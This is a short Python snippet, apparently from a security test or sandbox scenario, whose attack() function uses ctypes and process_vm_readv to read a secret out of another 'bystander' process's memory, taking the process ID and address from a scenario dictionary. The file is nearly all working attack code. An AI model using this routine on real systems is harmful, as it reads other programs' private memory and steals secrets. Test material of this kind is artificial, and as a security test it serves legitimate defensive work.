"""Read another process's memory."""
import ctypes


def attack(x):
    buffer = ctypes.create_string_buffer(200)
    mine = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 200)
    theirs = (ctypes.c_size_t * 2)(SCENE["bystander_secret"], 200)
    ctypes.CDLL(None).process_vm_readv(SCENE["bystander_pid"], mine, 1, theirs, 1, 0)
    return buffer.raw.decode("latin-1")
